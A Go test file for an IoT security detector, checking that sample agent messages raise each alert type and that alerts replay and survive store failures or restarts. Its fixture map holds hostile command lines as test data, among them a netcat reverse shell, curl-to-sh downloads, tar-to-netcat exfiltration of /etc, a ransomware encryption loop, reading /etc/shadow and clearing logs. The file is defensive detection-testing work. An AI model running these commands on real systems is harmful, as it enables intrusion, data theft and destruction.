package defender

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/vauban-iot/vauban/defender/alert"
	"github.com/vauban-iot/vauban/defender/host"
	"github.com/vauban-iot/vauban/defender/record"
	"github.com/vauban-iot/vauban/hub/telemetry"
	"github.com/vauban-iot/vauban/internal/conform"
	"github.com/vauban-iot/vauban/iot"
	"github.com/vauban-iot/vauban/wire/secmsg"
)

// watched is a bench whose detector judges what agents say of their devices.
func watched(t *testing.T, lines ...string) *bench {
	t.Helper()
	set := setOf(lines...)
	b := newBench(t, set)
	b.cfg.Host = host.New(host.Config{List: func() host.List { return set() }, Previous: Previous(b.alerts)})
	return b
}

// SecurityEvents implements Kept.
func (s *memoryAlerts) SecurityEvents(_ context.Context, f record.Filter) ([]record.Event, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	var all []record.Event
	for _, e := range slices.Backward(s.events) {
		if e.Device == f.Device && e.Name == f.Name && e.Message < f.Before.Message && len(all) < f.Limit {
			all = append(all, e)
		}
	}
	return all, nil
}

// agent1 is a message of JSON 1.0, as the older agents send it.
func agent1(device, name, payload string) iot.Message {
	return message(device, "azureiotsecurity", "", noon, fmt.Appendf(nil, `{"AgentVersion":"0.0.5","AgentId":"97df2b6e-6b5f-4b4c-9d0d-0a3d1e4d0f10","MessageSchemaVersion":"1.0","Events":[
		{"EventType":"Security","Category":"Triggered","Name":%q,"IsEmpty":false,"PayloadSchemaVersion":"1.0","Id":"97df2b6e-6b5f-4b4c-9d0d-0a3d1e4d0f11","TimestampLocal":"2026-03-04T12:00:00Z","TimestampUTC":"2026-03-04T12:00:00Z","Payload":[%s]}]}`, name, payload))
}

func process1(device, program, line string) iot.Message {
	text, err := json.Marshal(map[string]any{"Executable": program, "ProcessId": 7, "ParentProcessId": 1, "UserId": "0", "UserName": "root", "CommandLine": line})
	if err != nil {
		panic(err)
	}
	return agent1(device, "ProcessCreate", string(text))
}

// agent3 is a message of the Linux agent.
func agent3(device string, e secmsg.Event) iot.Message {
	return message(device, "DefenderIotMicroAgent", secmsg.IndicatorJSON, noon, secmsg.AppendJSON(nil, secmsg.Report{Agent: "vauban", AgentVersion: "1.0.0", Events: []secmsg.Event{e}}))
}

func items(name string, all ...secmsg.Item) secmsg.Event {
	return secmsg.Event{Name: name, Time: noon, Payload: all}
}

// raisedBy are messages of one device that raise each of the types that agents tell of (defender §2.1).
var raisedBy = map[string][]iot.Message{
	"IoT_BinaryCommandLine":             {process1("d", "/bin/sh", `sh -c "echo f0VMRgIBAQAAAA== | base64 -d > /tmp/.a && chmod +x /tmp/.a && /tmp/.a"`)},
	"IoT_DisableFirewall":               {process1("d", "/usr/sbin/ufw", "ufw disable")},
	"IoT_PortForwarding":                {process1("d", "/usr/bin/ssh", "ssh -N -R 2222:localhost:22 x@198.51.100.7")},
	"IoT_DisableAuditdLogging":          {process1("d", "/sbin/auditctl", "auditctl -e 0")},
	"IoT_ReverseShell":                  {process1("d", "/bin/nc", "nc -e /bin/sh 198.51.100.7 4444")},
	"IoT_SucessfulLocalLogin":           {agent1("d", "Login", `{"ProcessId":1,"UserName":"root","Executable":"/bin/login","Result":"Success","Operation":"UserLogin"}`)},
	"IoT_WebShell":                      {process1("d", "/usr/sbin/lighttpd", "lighttpd -D"), agent1("d", "ProcessCreate", `{"Executable":"/bin/sh","ProcessId":8,"ParentProcessId":7,"UserId":"33","CommandLine":"sh -c id"}`)},
	"IoT_Ransomware":                    {process1("d", "/bin/sh", `sh -c "for f in /data/*; do openssl enc -aes-256-cbc -k x -in $f -out $f.locked; rm $f; done"`)},
	"IoT_CryptoMiner":                   {process1("d", "/bin/sh", `sh -c "echo cpuminer-multi"`)},
	"IoT_USBConnection":                 {agent3("d", items("Peripheral", secmsg.Peripheral{Type: secmsg.USB, Action: secmsg.Connect, Product: "46d/c31c/110", HitCount: 1}))},
	"IoT_UsbDisconnection":              {agent3("d", items("Peripheral", secmsg.Peripheral{Type: secmsg.USB, Action: secmsg.Disconnect, HitCount: 1}))},
	"IoT_EthernetConnection":            {agent3("d", items("Peripheral", secmsg.Peripheral{Type: secmsg.Ethernet, Action: secmsg.Connect, InterfaceName: "eth1", HitCount: 1}))},
	"IoT_EthernetDisconnection":         {agent3("d", items("Peripheral", secmsg.Peripheral{Type: secmsg.Ethernet, Action: secmsg.Disconnect, InterfaceName: "eth1", HitCount: 1}))},
	"IoT_FileCreated":                   {agent3("d", items("FileSystem", secmsg.FileChange{Action: secmsg.Created, Path: "/etc/rc.local", HitCount: 1}))},
	"IoT_FileModified":                  {agent3("d", items("FileSystem", secmsg.FileChange{Action: secmsg.Modified, Path: "/etc/passwd", HitCount: 1}))},
	"IoT_FileDeleted":                   {agent3("d", items("FileSystem", secmsg.FileChange{Action: secmsg.Deleted, Path: "/etc/hosts.deny", HitCount: 1}))},
	"IoT_CommonBots":                    {process1("d", "/bin/busybox", "/bin/busybox MIRAI")},
	"IoT_FairwareMalware":               {process1("d", "/bin/rm", "rm -rf /var/www")},
	"IoT_CryptoMinerContainer":          {process1("d", "/usr/bin/docker", "docker run -d metal3d/xmrig")},
	"IoT_SuspiciousNohup":               {process1("d", "/usr/bin/nohup", "nohup /tmp/.x")},
	"IoT_SuspiciousUseradd":             {process1("d", "/usr/sbin/useradd", "useradd -o -u 0 toor")},
	"IoT_ExposedDocker":                 {agent1("d", "ListeningPorts", `{"Protocol":"tcp","LocalPort":"2375","LocalAddress":"0.0.0.0"}`)},
	"IoT_FailedLocalLogin":              {agent1("d", "Login", `{"ProcessId":1,"UserName":"root","Executable":"/bin/login","Result":"Fail","Operation":"UserLogin"}`)},
	"IoT_PossibleMalware":               {process1("d", "/usr/bin/wget", "wget http://198.51.100.66/x")},
	"IoT_AccessingHtaccessFile":         {process1("d", "/bin/cp", "cp /tmp/h /var/www/html/.htaccess")},
	"IoT_KnownAttackTools":              {process1("d", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24")},
	"IoT_LinuxReconnaissance":           {process1("d", "/bin/sh", `sh -c "uname -a; id; w; cat /etc/passwd; ifconfig"`)},
	"IoT_ScriptInterpreterMismatch":     {process1("d", "/usr/bin/python3", "python3 /tmp/photo.jpg")},
	"IoT_LinuxBackdoor":                 {process1("d", "/usr/bin/wget", "wget http://203.0.113.7/kit -O /var/lib/kit"), process1("d", "/var/lib/kit", "/var/lib/kit -d")},
	"IoT_EgressData":                    {process1("d", "/bin/sh", `sh -c "tar czf - /etc | nc 198.51.100.7 99"`)},
	"IoT_PrivilegedContainer":           {process1("d", "/usr/bin/docker", "docker run --privileged alpine")},
	"IoT_RemovelOfSystemLogs":           {process1("d", "/bin/rm", "rm -f /var/log/auth.log")},
	"IoT_ExecuteFileWithTrailingSpace":  {process1("d", "/tmp/ls ", "/tmp/ls ")},
	"IoT_CredentialAccessTools":         {process1("d", "/bin/cat", "cat /etc/shadow")},
	"IoT_SuspiciousCompilation":         {process1("d", "/usr/bin/gcc", "gcc -o /tmp/x /tmp/x.c")},
	"IoT_DownloadFileThenRun":           {process1("d", "/bin/sh", `sh -c "curl -s http://203.0.113.7/x | sh"`)},
	"IoT_TiConnection":                  {agent1("d", "ConnectionCreate", `{"RemoteAddress":"198.51.100.66","RemotePort":"443","LocalAddress":"10.0.0.2","LocalPort":"50000","Direction":"Out","Protocol":"tcp"}`)},
	"IoT_MaliciousNameQueriesDetection": {agent3("d", items("Dns", secmsg.DNSQuery{Name: "c2.evil.example", Type: "A", HitCount: 1}))},
	"IoT_BashHistoryCleared":            {process1("d", "/bin/bash", `bash -c "history -c"`)},

	alert.FilesOverridden:       {process1("d", "/bin/cp", "cp /tmp/ls /bin/ls")},
	alert.TwinNotParsed:         {agent1("d", "ConfigurationError", `{"ConfigurationName":"snapshotFrequency","ErrorType":"TypeMismatch","UsedConfiguration":"PT13H","Message":"no duration"}`)},
	alert.UserAddedToGroups:     {users1("root:0", "ada:1000"), users1("root:0", "ada:1000;27")},
	alert.UserDeletedFromGroups: {users1("root:0", "ada:1000;27"), users1("root:0", "ada:1000")},
	alert.UserDeleted:           {users1("root:0", "ada:1000"), users1("root:0")},
}

// users1 is a list of users, each a name and the numbers of its groups, the first of which is its own.
func users1(users ...string) iot.Message {
	var all []string
	for _, u := range users {
		name, groups, _ := strings.Cut(u, ":")
		id, _, _ := strings.Cut(groups, ";")
		all = append(all, fmt.Sprintf(`{"UserName":%q,"UserId":%q,"GroupNames":%q,"GroupIds":%q}`, name, id, strings.ReplaceAll(groups, id, name), groups))
	}
	return agent1("d", "LocalUsers", strings.Join(all, ","))
}

// ofTheHub are the types that no agent tells of, and those of behaviour over time and of baselines; their own tests raise them.
var ofTheHub = []string{
	alert.CertificateAdded, alert.CertificateDeleted, alert.CertificateNotAdded, alert.CertificateNotDeleted, alert.CertificateMismatch, alert.CertificateExpired,
	alert.DiagnosticSettingSet, alert.DiagnosticSettingUnset, alert.ExpiredToken, alert.InvalidToken, alert.DeviceSilent,
	alert.NetworkScan, alert.DenialOfService, alert.Beaconing, alert.DNSTunnel, alert.PayloadDownload, alert.NewProtocol, alert.BruteForce, alert.BruteForceSucceeded,
	alert.CredentialStuffing, alert.TwoPlaces,
}

func TestDetector_RaisesEveryTypeOfAgents(t *testing.T) {
	t.Parallel()
	conform.Covers(t, "DEF-17")
	for _, k := range alert.Types() {
		if strings.HasPrefix(k.Name, "IoT_CA_") || strings.HasPrefix(k.Name, "IoT_Baseline") || slices.Contains(ofTheHub, k.Name) {
			continue
		}
		messages, ok := raisedBy[k.Name]
		if !ok {
			t.Errorf("nothing raises %s", k.Name)
			continue
		}
		b := watched(t, "198.51.100.66", "evil.example")
		submit(t, b.log, messages...)
		b.work(t)
		i := slices.IndexFunc(b.alerts.alerts, func(a alert.Alert) bool { return a.Type == k.Name })
		if i < 0 {
			t.Errorf("%s was not raised: %+v", k.Name, b.alerts.alerts)
			continue
		}
		a := b.alerts.alerts[i]
		if a.Severity != k.Severity || a.Title != k.Title || a.Count != 1 || a.Device != "d" || a.Module == "" || a.Indicator == "" || a.Source == "" || a.Day != "2026-03-04" || !strings.HasPrefix(a.Description, "Device d/") || a.LastMessage == 0 {
			t.Errorf("%s: %+v", k.Name, a)
		}
		if len(b.alerts.evidence) == 0 && k.Name != alert.UserDeleted { // what is gone cannot be shown
			t.Errorf("%s has no evidence", k.Name)
		}
	}
}

func TestDetector_IntrusionsAreReplayable(t *testing.T) {
	t.Parallel()
	b := watched(t)
	submit(t, b.log, process1("d", "/usr/bin/nmap", "nmap 10.0.0.1"), process1("d", "/usr/bin/nmap", "nmap 10.0.0.2"), process1("d", "/bin/ls", "ls"))
	b.work(t)
	if len(b.alerts.alerts) != 1 || b.alerts.alerts[0].Count != 2 || len(b.alerts.evidence) != 2 {
		t.Fatalf("%+v, %+v", b.alerts.alerts, b.alerts.evidence)
	}
	a := b.alerts.alerts[0]
	a.Evidence = b.alerts.evidence
	again, err := b.Replay(t.Context(), a)
	if err != nil || len(again) != 1 || again[0].Type != "IoT_KnownAttackTools" || again[0].Count != 2 || again[0].Indicator != a.Indicator || again[0].Description != a.Description {
		t.Errorf("%+v, %v", again, err)
	}
}

// A store that fails gets the same alerts again, although the engine remembers the message already.
func TestDetector_IntrusionsSurviveAStoreThatFails(t *testing.T) {
	t.Parallel()
	b := watched(t)
	submit(t, b.log, process1("d", "/bin/sh", `sh -c "uname; id; w; cat /etc/passwd; ifconfig"`))
	b.alerts.fail = map[int]bool{1: true}
	if err := b.entry(t.Context(), b.log.entries[0]); !errors.Is(err, errStore) {
		t.Fatal(err)
	}
	b.work(t)
	if len(b.alerts.alerts) != 1 || b.alerts.alerts[0].Type != "IoT_LinuxReconnaissance" {
		t.Errorf("%+v", b.alerts.alerts)
	}
	if len(b.intrusions) != 0 {
		t.Errorf("%d messages are kept", len(b.intrusions))
	}
}

// After a restart, lists are compared with the events that are kept.
func TestDetector_ComparesOverARestart(t *testing.T) {
	t.Parallel()
	b := watched(t)
	submit(t, b.log, users1("root:0", "ada:1000"), agent1("d", "FirewallConfiguration", `{"Enabled":true,"Action":"Deny","Direction":"In","ChainName":"INPUT","Priority":1}`))
	b.work(t)
	b.cfg.Host = host.New(host.Config{Previous: Previous(b.alerts)})
	next := []iot.Message{users1("root:0"), agent1("d", "FirewallConfiguration", `{"Enabled":true,"Action":"Allow","Direction":"In","ChainName":"INPUT","Priority":1}`)}
	submit(t, b.log, next...)
	if err := b.entry(t.Context(), b.log.entries[1]); err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, a := range b.alerts.alerts {
		kinds = append(kinds, a.Type)
	}
	if slices.Sort(kinds); !slices.Equal(kinds, []string{"IoT_DisableFirewall", alert.UserDeleted}) {
		t.Errorf("%q", kinds)
	}
	if seq := telemetry.Sequence(2, 0); b.alerts.alerts[0].LastMessage != seq {
		t.Errorf("%+v", b.alerts.alerts[0])
	}
}
